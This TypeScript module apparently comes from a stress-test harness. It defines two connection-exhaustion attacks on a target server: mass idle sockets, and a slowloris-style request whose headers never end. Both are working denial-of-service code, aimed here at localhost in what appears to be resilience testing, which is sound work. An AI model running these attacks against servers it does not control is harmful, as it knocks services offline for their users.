/** Connections that say nothing, or next to nothing. */
import { type Attack, between, deaf, pause, sent } from '../attack.ts';

export const idle: Attack = {
  name: 'idle connections',
  async run(target, random, signal) {
    while (!signal.aborted) {
      const sockets = Array.from({ length: between(random, 200, 1500) }, () => deaf(target));
      await pause(between(random, 1000, 6000), signal);
      for (const socket of sockets) socket.destroy();
    }
  },
};

export const slowHeaders: Attack = {
  name: 'headers that do not end',
  async run(target, random, signal) {
    const sockets = Array.from({ length: 100 }, () => deaf(target));
    for (const socket of sockets) await sent(socket, 'GET /metrics HTTP/1.1\r\nhost: localhost\r\n');
    while (!signal.aborted) {
      for (const [i, socket] of sockets.entries()) {
        if (socket.destroyed) sockets[i] = deaf(target);
        socket.write(`x-${between(random, 0, 99)}: 1\r\n`);
      }
      await pause(1000, signal);
    }
    for (const socket of sockets) socket.destroy();
  },
};
